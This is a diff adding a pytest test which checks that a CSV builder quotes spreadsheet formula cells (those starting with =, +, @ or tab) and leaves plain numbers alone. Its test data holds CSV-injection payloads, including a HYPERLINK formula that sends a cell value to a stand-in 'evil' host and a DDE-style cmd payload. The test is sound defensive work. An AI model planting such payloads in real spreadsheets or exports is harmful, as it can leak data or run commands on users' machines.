@@ -94,3 +94,29 @@ def test_file_name_and_hash():
         with pytest.raises(MediaError):
             csv_file_name(bad)
     assert content_hash(b"") == "md5:d41d8cd98f00b204e9800998ecf8427e"
+
+
+def test_formula_cells_are_neutralised():
+    """A cell a spreadsheet would run (= + - @, tab, CR first) is quoted;
+    plain numbers stay numbers."""
+    data = build_csv(
+        ["name", "label"],
+        [
+            {"name": "A1", "label": '=HYPERLINK("http://evil/?"&A1)'},
+            {"name": "A2", "label": "+1+cmd|' /C calc'!A0"},
+            {"name": "A3", "label": "@SUM(1)"},
+            {"name": "A4", "label": "-5"},
+            {"name": "A5", "label": "\tx"},
+            {"name": "=A6", "label": "2.5"},
+        ],
+    )
+    rows = list(csv.reader(io.StringIO(data.decode())))[1:]
+    assert [r[1] for r in rows] == [
+        '\'=HYPERLINK("http://evil/?"&A1)',
+        "'+1+cmd|' /C calc'!A0",
+        "'@SUM(1)",
+        "-5",
+        "'\tx",
+        "2.5",
+    ]
+    assert rows[-1][0] == "'=A6"
